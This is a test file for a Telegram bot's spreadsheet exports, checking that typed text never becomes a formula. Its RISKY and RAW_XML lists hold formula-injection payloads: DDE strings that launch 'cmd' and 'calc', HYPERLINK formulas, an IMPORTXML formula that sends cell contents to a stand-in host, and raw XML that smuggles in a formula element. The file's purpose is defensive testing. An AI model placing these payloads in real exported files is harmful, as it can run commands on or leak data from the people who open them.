"""Trust, class A: no .xlsx export ever turns what a user typed into a formula or a DDE call.

Real flows through the emulator put 24 formula-like inputs (`=`, `+`, `-`, `@`, tab, carriage
return, leading blanks, full-width ＝＋－＠ and small ﹦﹢﹣﹫, DDE, HYPERLINK, ...) into every typed
field that reaches a spreadsheet: Telegram first names, registered names, org names, hour
descriptions, activity titles and places, campaign titles and report texts. Every export kind
(/export hours, myhours, members, activities, campaign) is opened as a zip: no `<f>` element
anywhere, every text cell an inline or shared string that reads back verbatim, and each
formula-like cell marked with the quote prefix. The cell writer itself is checked on 25 fixed
inputs and 300 generated ones.
"""

from __future__ import annotations

import io
import sys
import unicodedata
import zipfile
from datetime import date, datetime
from typing import Any
from xml.etree import ElementTree

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from bot.domain.xlsx import Sheet, append, book, is_risky, safe_text, save
from bot.settings import Settings
from tests.conftest import Harness, build_tower, register

NS = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
RISKY = [
    '=HYPERLINK("http://x","y")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\tcmd",
    "\r=1",
    " =1+1",
    "＝1+1",
    "＋1+1",
    "－2+3",
    "＠SUM(A1)",
    "﹦1+1",
    "﹢1",
    "﹣1",
    "﹫A1",
    "=cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"!A0")',
    "  \t@A1",
    "=1+1",
    "=-1",
    "+",
    "-",
    "@",
    '=IMPORTXML(CONCAT("http://x/?q=",A1),"//a")',
]
#: inputs that can travel inside a '|'-separated command
NO_PIPE = [r for r in RISKY if "|" not in r]


# --- reading an .xlsx as a zip ---------------------------------------------------------------


def xlsx_cells(data: bytes) -> list[tuple[str, str | None, str | None]]:
    """(sheet/ref, t attribute, text) of every cell of every sheet; asserts no formula at all."""
    out: list[tuple[str, str | None, str | None]] = []
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        shared: list[str] = []
        if "xl/sharedStrings.xml" in z.namelist():
            root = ElementTree.fromstring(z.read("xl/sharedStrings.xml"))
            shared = ["".join(t.text or "" for t in si.iter(NS + "t")) for si in root]
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/") and n.endswith(".xml")]
        assert sheets
        for name in sheets:
            raw = z.read(name)
            root = ElementTree.fromstring(raw)
            assert root.find(f".//{NS}f") is None, f"a formula in {name}"
            assert b"<f>" not in raw and b"<f " not in raw
            for c in root.iter(NS + "c"):
                kind = c.get("t")
                assert kind in (None, "n", "s", "inlineStr", "b", "d"), (name, kind)
                text: str | None = None
                if kind == "inlineStr":
                    text = "".join(t.text or "" for t in c.iter(NS + "t"))
                elif kind == "s":
                    text = shared[int(c.findtext(NS + "v") or "0")]
                out.append((f"{name}/{c.get('r')}", kind, text))
    return out


def check_export(data: bytes, expected: list[str]) -> None:
    """No formula; every expected text verbatim in some cell; formula-like cells quote-prefixed."""
    texts = [text for _, kind, text in xlsx_cells(data) if text is not None]
    for value in expected:
        want = safe_text(value)
        assert any(want in text for text in texts), (value, texts[:40])
    wb = load_workbook(io.BytesIO(data))
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and is_risky(cell.value):
                    assert cell.quotePrefix, (ws.title, cell.coordinate, cell.value)


# --- the cell writer -------------------------------------------------------------------------


def roundtrip(values: list[Any], write_only: bool) -> tuple[bytes, list[Any]]:
    wb = Workbook(write_only=write_only)
    ws = wb.create_sheet("x") if write_only else wb.active
    append(ws, values)
    buf = io.BytesIO()
    wb.save(buf)
    data = buf.getvalue()
    back = next(load_workbook(io.BytesIO(data)).worksheets[0].iter_rows(values_only=True))
    return data, list(back)


@pytest.mark.parametrize("write_only", [True, False])
@pytest.mark.parametrize("value", [*RISKY, "普通文字"])
def test_cell_writer_keeps_text_as_text(value: str, write_only: bool) -> None:
    data, back = roundtrip([value, 3, 2.5], write_only)
    assert back == [safe_text(value), 3, 2.5]  # numbers stay numbers
    check_export(data, [value])


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=60), st.sampled_from(["", "=", "+", "-", "@", "\t", " ＝", "＠", "\r"]))
def test_cell_writer_on_any_text(text: str, head: str) -> None:
    value = head + text
    data, back = roundtrip([value], write_only=True)
    assert back[0] == (safe_text(value) or None)
    xlsx_cells(data)


#: strings xlsxwriter would copy into the sheet as raw XML (it takes "<r>…</r>" for rich text)
RAW_XML = [
    "<r><t>x</t></r>",
    '<r></r></is><f>HYPERLINK("http://x","y")</f><is><r></r>',
    "<r>=1+1</r>",
]


def streamed(values: list[Any]) -> tuple[bytes, list[Any]]:
    """One data row through the table exports' writer (title, header, row, totals)."""
    wb = book("t")
    sheet = Sheet(wb, "x", title="t", header=[str(i) for i in range(len(values))])
    sheet.add(values)
    sheet.total(["total"])
    sheet.close()
    data = save(wb)
    rows = list(load_workbook(io.BytesIO(data)).worksheets[0].iter_rows(values_only=True))
    return data, list(rows[2])


@pytest.mark.parametrize("value", [*RISKY, *RAW_XML, "普通文字", "a\r\nb"])
def test_streamed_writer_keeps_text_as_text(value: str) -> None:
    data, back = streamed([value, 3, 2.5, date(2025, 12, 1), datetime(2025, 12, 1, 18, 30)])
    assert back == [safe_text(value), 3, 2.5, datetime(2025, 12, 1), datetime(2025, 12, 1, 18, 30)]
    check_export(data, [value])


def test_streamed_writer_keeps_escape_lookalikes_literal() -> None:
    """Spreadsheets read `_x0041_` in a cell's XML as "A": typed, it is written `_x005F_x0041_`,
    which Excel shows as typed (openpyxl reads the escape back as it is written)."""
    _, back = streamed(["_x0041_ stays"])
    assert back == ["_x005F_x0041_ stays"]


def test_streamed_writer_escapes_the_title_and_header_too() -> None:
    wb = book(RISKY[0])
    sheet = Sheet(wb, "x", title=RAW_XML[1], header=[RISKY[0], RAW_XML[0]])
    sheet.close()
    data = save(wb)
    check_export(data, [RAW_XML[1], RISKY[0], RAW_XML[0]])
    assert load_workbook(io.BytesIO(data)).properties.title == RISKY[0]


def test_dates_before_march_1900_are_still_right() -> None:
    """The spreadsheet calendar's 29 Feb 1900: those days go through xlsxwriter's converter."""
    old = [date(1900, 1, 1), datetime(1900, 2, 28, 12, 0), date(1900, 3, 1)]
    _, back = streamed(old)
    assert back == [datetime(1900, 1, 1), datetime(1900, 2, 28, 12, 0), datetime(1900, 3, 1)]


def test_no_letter_or_digit_reads_as_a_formula_trigger() -> None:
    """`is_risky` passes text that starts with a letter or digit without normalising it."""
    triggers = set("=+-@\u2212")
    assert not [
        hex(code)
        for code in range(sys.maxunicode + 1)
        if chr(code).isalnum() and unicodedata.normalize("NFKC", chr(code))[:1] in triggers
    ]


# --- every export, through the bot -----------------------------------------------------------


def when(days: int) -> str:
    tz = Settings().tz
    return datetime.fromtimestamp(datetime.now(tz).timestamp() + days * 86400, tz).strftime(
        "%Y-%m-%d %H:%M"
    )


async def rows(tb: Harness, sql: str) -> list[str]:
    return [r[0] for r in await tb.db.fetchall(sql) if r[0]]


async def docs_since(tb: Harness, mark: int, chat_id: int) -> list[dict[str, Any]]:
    await tb.drain()
    return [d for d in tb.em.documents[mark:] if d["chat_id"] == chat_id]


async def test_every_export_keeps_typed_text_as_text(tb: Harness) -> None:
    t = await build_tower(tb)
    em, boss, sec_a, root, chat_a = tb.em, t["boss"], t["sec_a"], t["root"], t["chat_a"]
    people = []
    for i, value in enumerate(RISKY):
        user = em.add_user(value, username=f"risky{i}")  # the Telegram first name as typed
        await register(tb, user, value, "yanshan.dabu")
        await tb.send(user, None, f"/hours 1 {value}")
        people.append(user)
    for i, value in enumerate(RISKY):
        await tb.send(boss, root, f"/org add yanshan.r{i} {value}")
    for value in NO_PIPE:
        await tb.send(sec_a, chat_a, f"/activity {value} | {when(7)} | 2 | 10 | {value}")
        await tb.send(boss, root, f"/deadline new {value} | {when(20)}")
    campaigns = [int(c) for c in await rows(tb, "SELECT id FROM campaigns ORDER BY id")]
    assert len(campaigns) == len(NO_PIPE)
    for cid, value in zip(campaigns, RISKY, strict=False):
        await tb.send(sec_a, None, f"/submit {cid}")
        await tb.send(sec_a, None, value if value.strip() else "x")
    entries = await tb.db.fetchall("SELECT id FROM hour_entries WHERE status = 'pending'")
    for (entry_id,) in entries:
        await tb.services.hours.decide(boss["id"], entry_id, approve=True)

    first_names = await rows(tb, "SELECT first_name FROM users WHERE username LIKE 'risky%'")
    real_names = await rows(
        tb,
        "SELECT p.real_name FROM people p JOIN users u ON u.id ="
        " p.user_id WHERE u.username LIKE 'risky%'",
    )
    org_names = await rows(tb, "SELECT name FROM orgs WHERE code LIKE 'yanshan.r%'")
    descriptions = await rows(tb, "SELECT description FROM hour_entries")
    titles = await rows(tb, "SELECT title FROM activities")
    places = await rows(tb, "SELECT place FROM activities")
    camp_titles = await rows(tb, "SELECT title FROM campaigns ORDER BY id")
    reports = await rows(tb, "SELECT text FROM campaign_submissions ORDER BY campaign_id")
    assert len(first_names) == len(real_names) == len(org_names) == len(RISKY)
    assert len(titles) == len(camp_titles) == len(NO_PIPE) and len(reports) == len(NO_PIPE)
    assert "\tcmd" in first_names and "\r=1" in first_names  # first names arrive verbatim
    assert '=HYPERLINK("http://x","y")' in real_names and "＝1+1" in org_names

    # each report also went to the campaign's reviewers (boss, its creator) privately, at a
    # message a second: let them land before the exports queue behind them
    assert await tb.drain(60)
    mark = len(em.documents)
    for command in ("/export hours", "/export members", "/export activities"):
        await tb.send(boss, root, command)
    for cid in campaigns[:3]:  # one private chat takes a message a second: three by command
        await tb.send(boss, root, f"/export campaign {cid}")
    docs = await docs_since(tb, mark, boss["id"])
    kinds = [d["file_name"].split("-")[0] for d in docs]
    assert kinds == ["hours", "members", "activities"] + ["campaign"] * 3
    check_export(docs[0]["bytes"], real_names + org_names + descriptions)
    check_export(docs[1]["bytes"], real_names + first_names + org_names)
    check_export(docs[2]["bytes"], titles + places)
    # the rest straight from the builder /export campaign uses
    built = [doc["bytes"] for doc in docs[3:]] + [
        (await tb.services.stats.campaign_workbook(boss["id"], cid, "zh"))[0]
        for cid in campaigns[3:]
    ]
    for data, title, report in zip(built, camp_titles, reports, strict=True):
        check_export(data, [title, report])

    for user in people:
        mark = len(em.documents)
        await tb.send(user, None, "/export myhours")
        record = await docs_since(tb, mark, user["id"])
        assert len(record) == 1
        mine = await rows(tb, f"SELECT description FROM hour_entries WHERE user_id = {user['id']}")
        name = await rows(tb, f"SELECT real_name FROM people WHERE user_id = {user['id']}")
        assert len(mine) == len(name) == 1
        check_export(record[0]["bytes"], name + mine)
